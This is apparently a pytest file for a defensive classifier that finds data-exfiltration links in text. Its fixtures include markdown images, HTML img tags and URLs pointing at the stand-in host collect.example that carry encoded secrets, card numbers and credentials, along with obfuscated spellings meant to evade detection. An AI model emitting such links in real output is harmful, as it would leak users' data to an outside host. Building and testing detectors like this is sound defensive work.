"""What an answer carries out to somebody else: found however it is written, and nothing that is not."""

import json
import os
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from classifiers.__main__ import BadLine, arguments, judge_of, judged
from classifiers.leaks.addresses import address_of, ascii_host
from classifiers.leaks.links import leaks_in
from classifiers.leaks.spelling import read

HOST = "collect.example"
FORMS = {
    "inline image": ("image", "See ![a [nice] chart]({}) here."),
    "inline image in angle brackets": ("image", "![]( <{}> 'title')"),
    "inline link": ("link", "Read [this]({})."),
    "reference": ("reference", "![chart][1]\n\n[1]: {}\n"),
    "reference on the next line": ("reference", "![chart][1]\n\n[1]:\n  {}\n"),
    "reference in a quotation": ("reference", "> ![chart][1]\n>\n> [1]: <{}>\n"),
    "img": ("html", '<img alt="x" src="{}">'),
    "img without quotation marks": ("html", "<img src={} alt=x>"),
    "img in capitals": ("html", "<IMG\nSRC = '{}'>"),
    "source": ("html", '<video><source src="{}"></video>'),
    "poster": ("html", '<video poster="{}"></video>'),
    "style": ("style", '<p style="background: url({})">x</p>'),
    "autolink": ("url", "Go to <{}>."),
    "bare": ("url", "Go to {}, please."),
}
CARRYING = (
    "https://collect.example/c.png?d=c2VjcmV0",
    "http://collect.example?d=1",
    "https://COLLECT.example:8443/a/4111111111111111.png",
    "https://collect.example/bWFyaWFAZXhhbXBsZS5vcmc=/x.gif",
    "https://jane:1234@collect.example/",
    "https://c2vjcmv0ltewmzq1nzg.collect.example/x.png",
    "//collect.example/x.png?d=1",
    "https:\\\\collect.example\\x.png?d=1",
    "https://collect.example./x.png?d=1",
    "https://collect.example/" + "/".join(["my", "password", "is"] * 8),
    "https://collect.example/name%3DAnna/x.png",
)
QUIET = (
    "See the [manual](https://docs.sqlite.org/lang/select.html#where) and <https://example.com/v1.2.3/changes>.",
    "![diagram](./pictures/plan.svg?raw=true) ![logo](https://static.firm.example/img/mark.png)",
    "Mail jane@company.example or [us](mailto:help@company.example). Call //twice//, see a//b and http://localhost/x.",
    "x = url(5); data = 7; href = none // a comment that says ?something=1\n[1]: see above",
    "https://en.wikipedia.org/wiki/Data_exfiltration and https://example.com/blog/2024/05/how-to-build-it.html",
    "<img src='cid:part1'> <img src='data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUA'> <a href='#note?x=1'>1</a>",
)
pieces = st.sampled_from(
    ["![", "[", "](", "]", ")", "(", "<", ">", "<img src=", "'", '"', "\n", " ", "\\", "&amp;", "&#58;", "[1]: ", "a",
     "https://", "//", "collect.example", "/c?d=1", "other.example/", "?", "@", ":", "srcset=", "url(", "\t", "é"]
)  # fmt: skip
texts = st.lists(pieces, max_size=30).map("".join)


@pytest.mark.parametrize(
    ("form", "carrying"),
    [(form, one) for form in FORMS for one in CARRYING if form != "autolink" or not one.startswith("//")],
)
def test_an_address_that_carries_something_is_found_in_every_form(form: str, carrying: str) -> None:
    kind, frame = FORMS[form]
    text = frame.format(carrying)
    (leak,) = leaks_in(text)
    assert text[leak.start : leak.end] == carrying
    assert leak.type == kind
    assert leak.host.endswith(HOST)
    assert leaks_in(text, {HOST, f"*.{HOST}"}) == []


@pytest.mark.parametrize("text", QUIET)
def test_ordinary_addresses_are_no_leaks(text: str) -> None:
    assert leaks_in(text) == []


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("![x](https&#58;//collect&period;example/c?d=1)", "https&#58;//collect&period;example/c?d=1"),
        (r"![x](https://collect\.example/c?d=1)", r"https://collect\.example/c?d=1"),
        ('<img src="ht\ntps://collect.example/c?d=1">', "ht\ntps://collect.example/c?d=1"),
        ("![x](https://coll%65ct.example/c?d=1)", "https://coll%65ct.example/c?d=1"),
        ("![x](https&#58;//coll&#101;ct.example/c?d=1)", "https&#58;//coll&#101;ct.example/c?d=1"),
        ("![x](https://ｃollect。example/c?d=1)", "https://ｃollect。example/c?d=1"),
        ("<img srcset='https://a.example/1x.png 1x, https://collect.example/c?d=1 2x'>", "https://collect.example/c?d=1"),
        ("[mail](mailto:x@collect.example?body=secret)", "mailto:x@collect.example?body=secret"),
        ("www.collect.example/?d=1", "www.collect.example/?d=1"),
    ],
)  # fmt: skip
def test_another_spelling_of_an_address_is_the_same_address(text: str, said: str) -> None:
    (leak,) = leaks_in(text)
    assert (text[leak.start : leak.end], leak.host.removeprefix("www.")) == (said, HOST)


def test_a_host_is_allowed_alone_or_with_all_below_it() -> None:
    text = "![x](https://a.b.collect.example/?d=1)"
    assert [
        bool(leaks_in(text, {one})) for one in ("a.b.collect.example", "*.collect.example", "*.b.collect.example")
    ] == [False] * 3
    assert [
        bool(leaks_in(text, {one})) for one in (HOST, "*.a.b.collect.example", "b.collect.example", "*.example.org")
    ] == [True] * 4
    assert leaks_in("![x](https://bücher.example/?d=1)", {ascii_host("Bücher.example")}) == []
    assert leaks_in("![x](https://allowed.example@collect.example/?d=1)", {"allowed.example"})[0].host == HOST
    assert leaks_in("![x](https://allowed.example.collect.example/?d=1)", {"allowed.example"})


@given(text=texts)
def test_every_text_is_read_and_every_place_is_one_of_it(text: str) -> None:
    found = leaks_in(text)
    assert all(0 <= one.start < one.end <= len(text) for one in found)
    assert [one.start for one in found] == sorted(one.start for one in found)
    allowed: set[str] = set()
    while found:  # of two that overlap, the second is told once the first is allowed
        assert not {one.host for one in found} & allowed
        allowed |= {one.host for one in found}
        found = leaks_in(text, allowed)


@given(text=st.text())
def test_any_text_is_read(text: str) -> None:
    leaks_in(text)
    address_of(text)
    assert len(read(text).text) == len(read(text).starts) == len(read(text).ends)


@pytest.mark.parametrize(
    "piece",
    ["](//a.example/?b ", "![", "<img src=", "srcset='", "&#", "\\", "[1]: ", "http:", "a:", "url(", "//a", "@"],
)
def test_a_long_text_of_one_piece_is_read(piece: str) -> None:
    """Where what is done grows as the square of the text, this does not end within the time-out of a test."""
    leaks_in(piece * (400_000 // len(piece)) + " https://collect.example/?d=1")


class _Sources(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, _tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [value for name, value in attrs if name in ("src", "href") and value]


@given(text=texts)
def test_what_a_renderer_follows_and_carries_something_is_found(text: str) -> None:
    """The oracle is markdown-it: what its page asks a host for."""
    page = _Sources()
    page.feed(MarkdownIt("commonmark").render(text))
    asked = [one for one in map(address_of, page.found) if one and one.carries]
    hosts = {one.host for one in leaks_in(text)}
    found = "".join(text[one.start : one.end] for one in leaks_in(text))
    assert all(one.host in hosts or one.host in found for one in asked), (page.found, hosts)


def test_each_line_is_judged_and_a_line_that_is_none_stops() -> None:
    rows: list[Any] = [{"id": 1, "text": "![é](https://collect.example/?d=1)"}, {"id": "b", "text": "nothing"}]
    lines, judge = [json.dumps(one) for one in rows], judge_of(arguments(["links", "--jsonl"]))
    said = [json.loads(one) for one in judged([*lines, "\n"], judge)]
    assert [one["id"] for one in said] == [1, "b"]
    assert said[0]["findings"] == [
        {"kind": "exfiltration", "type": "image", "start": 5, "end": 33, "host": HOST, "carries": ["query"]}
    ]
    assert said[1]["findings"] == []
    for bad in ("{", "[]", '{"id": 1}', '{"id": 1, "text": null}'):
        with pytest.raises(BadLine, match="line 3"):
            list(judged([*lines, bad], judge))


def test_the_command_reads_lines_and_says_where_it_stopped() -> None:
    command = [sys.executable, "-m", "classifiers", "links", "--jsonl", "--allow", "Allowed.example"]
    rows = '{"id": 1, "text": "https://allowed.example/?d=1 https://collect.example/?d=1"}\nno\n'
    done = subprocess.run(command, input=rows, capture_output=True, text=True, check=False)
    assert done.returncode == 2
    assert [one["host"] for one in json.loads(done.stdout)["findings"]] == [HOST]
    assert re.match(r"line 2 is not JSON .*; nothing after it was judged", done.stderr)


def test_the_guide_shows_what_the_commands_print() -> None:
    page = (Path(__file__).parents[2] / "docs" / "guides" / "screening.md").read_text("utf-8")
    shown = re.findall(r"```console\n\$ (.*)\n((?:.*\n)+?)```", page)
    assert len(shown) == 3
    path = {**os.environ, "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}"}
    for command, printed in shown:
        done = subprocess.run(["sh", "-c", command], capture_output=True, text=True, check=True, env=path)
        assert done.stdout == printed
